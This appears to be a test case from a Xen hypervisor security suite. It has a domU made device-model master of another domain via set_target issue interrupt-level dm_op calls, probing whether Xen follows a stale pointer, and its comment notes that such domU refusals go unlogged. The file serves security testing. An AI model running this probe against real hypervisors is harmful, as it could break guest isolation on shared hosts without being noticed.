// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-CONTENT-STUBDOM: what Xen refuses to dom0, by a domU that asks for it.
 *
 * A device model may run in a domU: set_target makes that domU the master of
 * the other one, and Xen takes a device model's operations on it from there.
 * Here the domU is an accomplice, and asks for U-CONTENT-PIC's. Xen's log has no
 * line of the refusal: those of domUs are neither logged nor counted, so that no
 * domU fills the log (xen/src/refusal.c).
 */
#include "content.h"

static bool start_accomplice(domid_t domid)
{
    struct vcpu_guest_context *context = buffer(sizeof(*context));
    xen_pfn_t frames[ACCOMPLICE_FRAMES];

    return content_accomplice(domid, frames, ACCOMPLICE_FRAMES, context) &&
           !content_set_context(domid, context) &&
           !issue(DOMCTL_CALL(unpausedomain, domid));
}

/* dm_op() by the accomplice: false if it does not get as far. */
static bool accomplice_dm_op(domid_t domid, const struct xen_dm_op *op,
                             long *result)
{
    struct {
        struct xen_dm_op_buf buf;
        struct xen_dm_op op;
    } *memory = accomplice_memory();

    memory->op = *op;
    memory->buf.h.p = (void *)(accomplice_memory_at + sizeof(memory->buf));
    memory->buf.size = sizeof(memory->op);

    return accomplice_calls(result, __HYPERVISOR_dm_op, domid, 1,
                            accomplice_memory_at, 0);
}

static bool ask_for_interrupts(domid_t domid)
{
    static const struct xen_dm_op nr_vcpus = { .op = XEN_DMOP_nr_vcpus },
                                  interrupt = {
                                      .op = XEN_DMOP_set_isa_irq_level,
                                      .u.set_isa_irq_level = { 1, 1 },
                                  };
    long result;

    if ( !accomplice_dm_op(domid, &nr_vcpus, &result) || result )
        return missing("the domU is no device model");

    if ( !accomplice_dm_op(domid, &interrupt, &result) )
        return missing("the domU does not come back");
    if ( !result )
    {
        announce("about to have Xen follow a pointer of its own");
        accomplice_dm_op(domid, &interrupt, &result);
    }

    return content_seen(false, result,
                        "Xen follows a pointer that has changed");
}

RAW_ATTACK_OWN_BOOT("U-CONTENT-STUBDOM", "U-CONTENT-PIC, by a domU as master")
{
    const domid_t domid = new_domain(DOMU_HVM), master = new_domain(DOMU_PV);
    bool observed;

    if ( !start_accomplice(master) ||
         issue(DOMCTL_CALL(set_target, master, .u.set_target.target = domid)) )
        observed = missing("no domU that is another's master");
    else
        observed = ask_for_interrupts(domid);
    end_domain(master);
    end_domain(domid);

    return observed;
}
